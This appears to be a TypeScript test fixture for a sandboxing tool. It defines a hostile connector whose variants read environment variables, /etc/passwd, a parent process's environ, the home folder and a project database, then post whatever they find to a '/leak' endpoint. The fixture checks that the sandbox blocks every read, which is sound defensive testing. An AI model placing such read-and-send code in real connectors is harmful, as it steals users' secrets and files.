import { readdirSync, readFileSync } from 'node:fs'
import { homedir, userInfo } from 'node:os'
import type { HostileDestination, HostileFixture } from './fixture.ts'
import { writeHonestly, writing } from './honest-destination.ts'

/** Sends what it could see to `/leak` of its own vendor, and nothing where it saw nothing. */
export function leaking(look: () => unknown): () => HostileDestination {
  return writing(async (batch, ctx) => {
    let seen: unknown
    try {
      seen = await look()
    } catch {
      seen = undefined
    }
    const text = JSON.stringify(seen) ?? ''
    if (text !== '' && text !== '{}' && text !== '[]') {
      await ctx.http.post(`${ctx.config.url}/leak`, { body: text.slice(0, 10_000) })
    }
    return writeHonestly(batch, ctx)
  })
}

/** Connectors that look around. */
export const p09: HostileFixture = {
  id: 'P-09',
  kind: 'connectors',
  contained: 'in-a-child',
  does: 'reads the environment, files, arguments, and the configuration of others',
  promise: 'It sees nothing: each attempt is a permission error, and `/leak` is never called.',
  variants: {
    'the environment': leaking(() => process.env),
    'a file of the system': leaking(() => readFileSync('/etc/passwd', 'utf8')),
    'the folder of the project': leaking(() => readdirSync('.')),
    'the project file': leaking(() => readFileSync('rev.yaml', 'utf8')),
    'the home folder': leaking(() => readdirSync(homedir())),
    'the state of rev': leaking(() => readFileSync('.rev/ledger.db', 'latin1')),
    'the environment of its parent': leaking(() =>
      readFileSync(`/proc/${process.ppid}/environ`, 'utf8'),
    ),
    'arguments that hold more than its own file': leaking(() => process.argv.slice(2)),
    'the name of the user': leaking(() => userInfo().username),
  },
}
